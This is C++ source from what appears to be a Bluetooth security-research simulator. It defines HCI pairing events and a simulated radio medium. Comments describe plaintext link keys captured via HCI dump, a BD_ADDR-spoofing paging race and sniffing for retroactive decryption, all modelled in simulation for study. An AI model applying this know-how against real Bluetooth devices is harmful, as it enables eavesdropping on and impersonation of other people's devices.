  [[nodiscard]] static std::optional<ConnectionCompleteEvt> decode(BytesView params);
};

struct DisconnectionCompleteEvt {
  Status status = Status::kSuccess;
  ConnectionHandle handle = kInvalidHandle;
  Status reason = Status::kRemoteUserTerminatedConnection;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<DisconnectionCompleteEvt> decode(BytesView params);
};

struct AuthenticationCompleteEvt {
  Status status = Status::kSuccess;
  ConnectionHandle handle = kInvalidHandle;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<AuthenticationCompleteEvt> decode(BytesView params);
};

struct RemoteNameRequestCompleteEvt {
  Status status = Status::kSuccess;
  BdAddr bdaddr;
  std::string remote_name;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<RemoteNameRequestCompleteEvt> decode(BytesView params);
};

struct EncryptionChangeEvt {
  Status status = Status::kSuccess;
  ConnectionHandle handle = kInvalidHandle;
  std::uint8_t encryption_enabled = 0x01;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<EncryptionChangeEvt> decode(BytesView params);
};

/// Controller asks the host for the stored link key of a peer. The host
/// answers with Link_Key_Request_Reply (key in plaintext over the HCI) or
/// the negative reply if no bond exists.
struct LinkKeyRequestEvt {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<LinkKeyRequestEvt> decode(BytesView params);
};

/// Controller hands a freshly generated link key to the host for storage —
/// the other plaintext key crossing the HCI, also captured by HCI dump.
struct LinkKeyNotificationEvt {
  BdAddr bdaddr;
  crypto::LinkKey link_key{};
  crypto::LinkKeyType key_type = crypto::LinkKeyType::kUnauthenticatedCombinationP192;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<LinkKeyNotificationEvt> decode(BytesView params);
};

struct IoCapabilityRequestEvt {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<IoCapabilityRequestEvt> decode(BytesView params);
};

/// Legacy pairing: controller asks the host for the PIN code.
struct PinCodeRequestEvt {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<PinCodeRequestEvt> decode(BytesView params);
};

struct IoCapabilityResponseEvt {
  BdAddr bdaddr;
  IoCapability io_capability = IoCapability::kDisplayYesNo;
  std::uint8_t oob_data_present = 0x00;
  std::uint8_t authentication_requirements = 0x03;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<IoCapabilityResponseEvt> decode(BytesView params);
};

struct UserConfirmationRequestEvt {
  BdAddr bdaddr;
  std::uint32_t numeric_value = 0;  // six-digit value from g()

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<UserConfirmationRequestEvt> decode(BytesView params);
};

struct SimplePairingCompleteEvt {
  Status status = Status::kSuccess;
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<SimplePairingCompleteEvt> decode(BytesView params);
};

}  // namespace blap::hci
