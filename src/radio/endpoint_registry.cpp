#include "radio/endpoint_registry.hpp"

#include "radio/radio_medium.hpp"

namespace blap::radio {

std::uint32_t EndpointRegistry::acquire_slot(RadioEndpoint* endpoint) {
  std::uint32_t slot;
  if (free_slots_.empty()) {
    slot = static_cast<std::uint32_t>(endpoints_.size());
    endpoints_.push_back(nullptr);
    addresses_.push_back(BdAddr{});
    attach_seqs_.push_back(0);
    // Generations start at 1 so a default EndpointHandle (generation 0)
    // never resolves.
    generations_.push_back(1);
    inquiry_scan_.push_back(0);
    page_scan_.push_back(0);
  } else {
    slot = free_slots_.back();
    free_slots_.pop_back();
  }
  endpoints_[slot] = endpoint;
  slot_of_[endpoint] = slot;
  return slot;
}

void EndpointRegistry::index_slot(std::uint32_t slot) {
  RadioEndpoint* endpoint = endpoints_[slot];
  addresses_[slot] = endpoint->radio_address();
  inquiry_scan_[slot] = endpoint->inquiry_scan_enabled() ? 1 : 0;
  page_scan_[slot] = endpoint->page_scan_enabled() ? 1 : 0;
  by_address_.emplace(std::make_pair(addresses_[slot], attach_seqs_[slot]), slot);
  by_attach_order_.emplace(attach_seqs_[slot], slot);
  if (inquiry_scan_[slot] != 0) inquiry_scanners_.emplace(attach_seqs_[slot], slot);
}

void EndpointRegistry::unindex_slot(std::uint32_t slot) {
  by_address_.erase({addresses_[slot], attach_seqs_[slot]});
  by_attach_order_.erase(attach_seqs_[slot]);
  inquiry_scanners_.erase(attach_seqs_[slot]);
}

EndpointHandle EndpointRegistry::attach(RadioEndpoint* endpoint) {
  const auto it = slot_of_.find(endpoint);
  if (it != slot_of_.end()) return EndpointHandle{it->second, generations_[it->second]};
  const std::uint32_t slot = acquire_slot(endpoint);
  attach_seqs_[slot] = next_attach_seq_++;
  index_slot(slot);
  return EndpointHandle{slot, generations_[slot]};
}

void EndpointRegistry::detach(RadioEndpoint* endpoint) {
  const auto it = slot_of_.find(endpoint);
  if (it == slot_of_.end()) return;
  const std::uint32_t slot = it->second;
  unindex_slot(slot);
  ++generations_[slot];  // every outstanding handle to this attachment dies
  endpoints_[slot] = nullptr;
  free_slots_.push_back(slot);
  slot_of_.erase(it);
}

void EndpointRegistry::refresh(RadioEndpoint* endpoint) {
  const auto it = slot_of_.find(endpoint);
  if (it == slot_of_.end()) return;
  unindex_slot(it->second);
  index_slot(it->second);
}

EndpointHandle EndpointRegistry::handle_of(const RadioEndpoint* endpoint) const {
  const auto it = slot_of_.find(endpoint);
  if (it == slot_of_.end()) return EndpointHandle{};
  return EndpointHandle{it->second, generations_[it->second]};
}

BdAddr EndpointRegistry::address_of(const RadioEndpoint* endpoint) const {
  const auto it = slot_of_.find(endpoint);
  if (it == slot_of_.end()) return BdAddr{};
  return addresses_[it->second];
}

void EndpointRegistry::load(const std::vector<RadioEndpoint*>& in_order) {
  // Retire every attachment that is not in the restored set. Endpoints that
  // stay keep slot and generation: an in-place restore happens at the
  // capture instant with frames possibly still in flight, and the handles
  // those queued events captured must stay valid.
  std::map<const RadioEndpoint*, std::uint32_t> keep;
  for (RadioEndpoint* endpoint : in_order) {
    const auto it = slot_of_.find(endpoint);
    if (it != slot_of_.end()) keep.emplace(it->first, it->second);
  }
  for (const auto& [endpoint, slot] : slot_of_) {
    if (keep.find(endpoint) != keep.end()) continue;
    ++generations_[slot];
    endpoints_[slot] = nullptr;
    free_slots_.push_back(slot);
  }
  by_address_.clear();
  by_attach_order_.clear();
  inquiry_scanners_.clear();
  slot_of_ = std::move(keep);

  // Re-sequence everything to its snapshot position; iteration order — and
  // with it every Rng draw order downstream — now matches the capture.
  for (RadioEndpoint* endpoint : in_order) {
    if (endpoint == nullptr) continue;
    const auto it = slot_of_.find(endpoint);
    const bool fresh = it == slot_of_.end();
    if (!fresh && by_attach_order_.find(attach_seqs_[it->second]) != by_attach_order_.end())
      continue;  // duplicate roster entry; first occurrence wins
    const std::uint32_t slot = fresh ? acquire_slot(endpoint) : it->second;
    attach_seqs_[slot] = next_attach_seq_++;
    index_slot(slot);
  }
}

}  // namespace blap::radio
