#include "radio/radio_medium.hpp"

#include <algorithm>

#include "common/log.hpp"

namespace blap::radio {

void RadioMedium::attach(RadioEndpoint* endpoint) {
  if (std::find(endpoints_.begin(), endpoints_.end(), endpoint) == endpoints_.end())
    endpoints_.push_back(endpoint);
}

void RadioMedium::detach(RadioEndpoint* endpoint) {
  std::erase(endpoints_, endpoint);
  // Close any links the endpoint participates in.
  std::vector<LinkId> doomed;
  for (const auto& [id, link] : links_)
    if (link.a == endpoint || link.b == endpoint) doomed.push_back(id);
  for (LinkId id : doomed) close_link(id, endpoint, close_reason::kConnectionTimeout);
}

void RadioMedium::start_inquiry(RadioEndpoint* requester, SimTime duration,
                                std::function<void(const InquiryResponse&)> on_response,
                                std::function<void()> on_complete) {
  if (obs_ != nullptr) {
    obs_->count("radio.inquiries");
    obs_->span(scheduler_.now(), scheduler_.now() + duration,
               obs_->device_tid(requester->radio_name()), obs::Layer::kRadio, "inquiry");
  }
  for (RadioEndpoint* ep : endpoints_) {
    if (ep == requester || !ep->inquiry_scan_enabled()) continue;
    if (obs_ != nullptr) obs_->count("radio.inquiry_responses");
    // Responders answer somewhere inside the inquiry window; inquiry scan
    // windows are dense enough that every scanning device is found.
    const SimTime latency = 1 + rng_.uniform(duration > 1 ? duration - 1 : 1);
    InquiryResponse response{ep->radio_address(), ep->radio_class_of_device(), ep->radio_name()};
    scheduler_.schedule_in(latency, [on_response, response] {
      if (on_response) on_response(response);
    });
  }
  scheduler_.schedule_in(duration, [on_complete] {
    if (on_complete) on_complete();
  });
}

void RadioMedium::page(RadioEndpoint* initiator, const BdAddr& target, SimTime timeout,
                       std::function<void(std::optional<LinkId>)> on_result) {
  // Candidates: every page-scanning endpoint owning the target address.
  // More than one candidate is the BD_ADDR-spoofing situation; the earliest
  // sampled scan window wins the race.
  RadioEndpoint* winner = nullptr;
  SimTime best_latency = 0;
  struct Candidate {
    RadioEndpoint* ep;
    SimTime latency;
  };
  std::vector<Candidate> candidates;
  for (RadioEndpoint* ep : endpoints_) {
    if (ep == initiator || !ep->page_scan_enabled()) continue;
    if (!(ep->radio_address() == target)) continue;
    const SimTime latency = ep->sample_page_response_latency(rng_);
    candidates.push_back(Candidate{ep, latency});
    if (winner == nullptr || latency < best_latency) {
      winner = ep;
      best_latency = latency;
    }
  }

  if (obs_ != nullptr) {
    obs_->count("radio.pages");
    const SimTime now = scheduler_.now();
    // One span per candidate on the candidate's own lane: from page start
    // until its sampled scan window catches the train. With a spoofed
    // BD_ADDR two lanes carry overlapping spans — the race of Table II.
    for (const Candidate& c : candidates) {
      if (!obs_->tracing()) break;
      const bool won = c.ep == winner && best_latency <= timeout;
      obs_->span(now, now + c.latency, obs_->device_tid(c.ep->radio_name()),
                 obs::Layer::kRadio, "page_scan_race",
                 strfmt("%s for %s (latency %llu us)", won ? "WINS" : "loses",
                        target.to_string().c_str(),
                        static_cast<unsigned long long>(c.latency)));
    }
    obs_->instant(now, obs_->device_tid(initiator->radio_name()), obs::Layer::kRadio,
                  "page_start", strfmt("target %s, %zu candidate(s)",
                                       target.to_string().c_str(), candidates.size()));
  }

  if (winner == nullptr || best_latency > timeout) {
    if (obs_ != nullptr) obs_->count("radio.page_timeouts");
    // The initiator gives up at the full page timeout whether nobody scans
    // or the only scan window falls past the deadline.
    scheduler_.schedule_in(timeout, [on_result] {
      if (on_result) on_result(std::nullopt);
    });
    return;
  }
  if (obs_ != nullptr) obs_->observe("radio.page_latency_us", best_latency);

  const LinkId id = next_link_id_++;
  RadioEndpoint* responder = winner;
  // blap-lint: handle-ok — both endpoints re-verified attached at fire time
  scheduler_.schedule_in(best_latency, [this, id, initiator, responder, on_result] {
    // Either side may have detached while the page train was running; a
    // link must never come up holding a dangling endpoint.
    if (!attached(initiator) || !attached(responder)) {
      if (on_result) on_result(std::nullopt);
      return;
    }
    Link link;
    link.a = initiator;
    link.b = responder;
    if (fault_plan_.enabled())
      link.channel = std::make_unique<faults::ChannelModel>(fault_plan_, id);
    links_[id] = std::move(link);
    if (obs_ != nullptr) {
      obs_->count("radio.links_up");
      obs_->instant(scheduler_.now(), obs_->device_tid(responder->radio_name()),
                    obs::Layer::kRadio, "link_up",
                    strfmt("link %llu, paged by %s", static_cast<unsigned long long>(id),
                           initiator->radio_name().c_str()));
    }
    BLAP_DEBUG("radio", "link %llu up: %s -> %s", static_cast<unsigned long long>(id),
               initiator->radio_address().to_string().c_str(),
               responder->radio_address().to_string().c_str());
    responder->on_link_established(id, initiator->radio_address(), false);
    initiator->on_link_established(id, responder->radio_address(), true);
    if (on_result) on_result(id);
  });
}

void RadioMedium::send_frame(LinkId link, RadioEndpoint* sender, Bytes frame,
                             TxReport on_report) {
  auto it = links_.find(link);
  if (it == links_.end()) return;
  RadioEndpoint* receiver = (it->second.a == sender) ? it->second.b : it->second.a;
  if (obs_ != nullptr) {
    obs_->count("radio.frames");
    obs_->observe("radio.frame_bytes", frame.size());
  }
  // The sniffer sees the frame as transmitted. Modelling an *ideal* capture
  // device (it hears what the sender put on the air, before channel damage)
  // keeps retroactive-decryption experiments meaningful under loss — and
  // keeps capture bytes identical to a fault-free run for the same traffic.
  if (!sniffers_.empty()) {
    SniffedFrame sniffed;
    sniffed.timestamp_us = scheduler_.now();
    sniffed.link = link;
    sniffed.sender = sender->radio_address();
    sniffed.receiver = receiver->radio_address();
    sniffed.frame = frame;
    for (const auto& sniffer : sniffers_) sniffer(sniffed);
  }

  // Channel verdict. Without a fault plan there is no ChannelModel: no Rng
  // draw, no branch below taken — the frame behaves exactly as it always has.
  auto verdict = faults::FaultVerdict::kDeliver;
  if (it->second.channel != nullptr) {
    verdict = it->second.channel->judge(scheduler_.now());
    if (verdict == faults::FaultVerdict::kCorrupt) it->second.channel->corrupt(frame);
    if (obs_ != nullptr && verdict != faults::FaultVerdict::kDeliver)
      obs_->count(strfmt("radio.faults.%s", faults::to_string(verdict)));
  }
  // Residual corruption escapes the CRC: the damaged frame is delivered and
  // the baseband ACKs it. Only outright drops count as undelivered.
  const bool delivered = verdict == faults::FaultVerdict::kDeliver ||
                         verdict == faults::FaultVerdict::kCorrupt;

  if (delivered) {
    // blap-lint: handle-ok — link liveness + membership re-checked at fire time
    scheduler_.schedule_in(frame_latency_, [this, link, receiver, frame = std::move(frame)] {
      // The link may have died while the frame was in flight.
      auto it2 = links_.find(link);
      if (it2 == links_.end()) return;
      if (it2->second.a != receiver && it2->second.b != receiver) return;
      receiver->on_air_frame(link, frame);
    });
  }
  if (on_report) {
    // ACK/NAK lands after one TDD round trip (frame slot + return slot).
    // blap-lint: handle-ok — sender attachment re-verified at fire time
    scheduler_.schedule_in(2 * frame_latency_,
                           [this, sender, delivered, on_report = std::move(on_report)] {
                             if (!attached(sender)) return;
                             on_report(delivered);
                           });
  }
}

void RadioMedium::close_link(LinkId link, RadioEndpoint* closer, std::uint8_t reason) {
  auto it = links_.find(link);
  if (it == links_.end()) return;
  RadioEndpoint* peer = (it->second.a == closer) ? it->second.b : it->second.a;
  links_.erase(it);
  if (obs_ != nullptr) {
    obs_->count("radio.links_closed");
    obs_->instant(scheduler_.now(), obs_->device_tid(closer->radio_name()),
                  obs::Layer::kRadio, "link_closed",
                  strfmt("link %llu, reason 0x%02x", static_cast<unsigned long long>(link),
                         reason));
  }
  BLAP_DEBUG("radio", "link %llu closed (reason 0x%02x)", static_cast<unsigned long long>(link),
             reason);
  // The peer learns of the teardown after one frame flight time.
  // blap-lint: handle-ok — peer attachment re-verified at fire time
  scheduler_.schedule_in(frame_latency_, [this, peer, link, reason] {
    if (!attached(peer)) return;  // peer detached while the frame flew
    peer->on_link_closed(link, reason);
  });
}

RadioEndpoint* RadioMedium::peer_of(LinkId link, const RadioEndpoint* self) const {
  auto it = links_.find(link);
  if (it == links_.end()) return nullptr;
  if (it->second.a == self) return it->second.b;
  if (it->second.b == self) return it->second.a;
  return nullptr;
}

std::optional<LinkId> RadioMedium::link_between(const BdAddr& x, const BdAddr& y) const {
  // links_ is ordered, so the lowest link id wins deterministically when a
  // spoofing scenario creates several links over the same address pair.
  for (const auto& [id, link] : links_) {
    const BdAddr a = link.a->radio_address();
    const BdAddr b = link.b->radio_address();
    if ((a == x && b == y) || (a == y && b == x)) return id;
  }
  return std::nullopt;
}

void RadioMedium::set_fault_plan(faults::FaultPlan plan) {
  fault_plan_ = std::move(plan);
  // Rebuild per-link channel state so a plan installed mid-scenario (e.g.
  // "the jammer arrives after pairing") applies to live links too.
  for (auto& [id, link] : links_)
    link.channel = fault_plan_.enabled()
                       ? std::make_unique<faults::ChannelModel>(fault_plan_, id)
                       : nullptr;
}

bool RadioMedium::save_state(state::StateWriter& w,
                             std::span<RadioEndpoint* const> roster) const {
  const auto index_of = [&roster](const RadioEndpoint* endpoint) -> std::int64_t {
    for (std::size_t i = 0; i < roster.size(); ++i)
      if (roster[i] == endpoint) return static_cast<std::int64_t>(i);
    return -1;
  };

  w.u64(frame_latency_);
  w.u64(next_link_id_);
  for (const std::uint64_t word : rng_.state()) w.u64(word);
  fault_plan_.save_state(w);
  w.u64(sniffers_.size());

  // Attachment set, in attach order (the paging race iterates endpoints_,
  // so the order is behaviourally significant).
  w.u64(endpoints_.size());
  for (const RadioEndpoint* endpoint : endpoints_) {
    const std::int64_t index = index_of(endpoint);
    if (index < 0) return false;
    w.u64(static_cast<std::uint64_t>(index));
  }

  w.u64(links_.size());
  for (const auto& [id, link] : links_) {
    const std::int64_t a = index_of(link.a);
    const std::int64_t b = index_of(link.b);
    if (a < 0 || b < 0) return false;
    w.u64(id);
    w.u64(static_cast<std::uint64_t>(a));
    w.u64(static_cast<std::uint64_t>(b));
    w.boolean(link.channel != nullptr);
    if (link.channel != nullptr) link.channel->save_state(w);
  }
  return true;
}

void RadioMedium::load_state(state::StateReader& r,
                             std::span<RadioEndpoint* const> roster,
                             state::RestoreMode mode) {
  frame_latency_ = r.u64();
  next_link_id_ = r.u64();
  std::array<std::uint64_t, 4> words{};
  for (std::uint64_t& word : words) word = r.u64();
  rng_.set_state(words);
  fault_plan_ = faults::FaultPlan::load_state(r);

  const std::uint64_t sniffer_count = r.u64();
  if (mode == state::RestoreMode::kRewind && sniffers_.size() > sniffer_count)
    sniffers_.resize(static_cast<std::size_t>(sniffer_count));

  const auto endpoint_at = [&](std::uint64_t index) -> RadioEndpoint* {
    if (index >= roster.size()) {
      r.fail("endpoint index out of range");
      return nullptr;
    }
    return roster[static_cast<std::size_t>(index)];
  };

  endpoints_.clear();
  const std::uint64_t attached = r.u64();
  for (std::uint64_t i = 0; i < attached && r.ok(); ++i) {
    RadioEndpoint* endpoint = endpoint_at(r.u64());
    if (endpoint != nullptr) endpoints_.push_back(endpoint);
  }

  links_.clear();
  const std::uint64_t link_count = r.u64();
  for (std::uint64_t i = 0; i < link_count && r.ok(); ++i) {
    const LinkId id = r.u64();
    Link link;
    link.a = endpoint_at(r.u64());
    link.b = endpoint_at(r.u64());
    if (r.boolean()) {
      link.channel = std::make_unique<faults::ChannelModel>(fault_plan_, id);
      link.channel->load_state(r);
    }
    if (r.ok()) links_.emplace(id, std::move(link));
  }
}

}  // namespace blap::radio
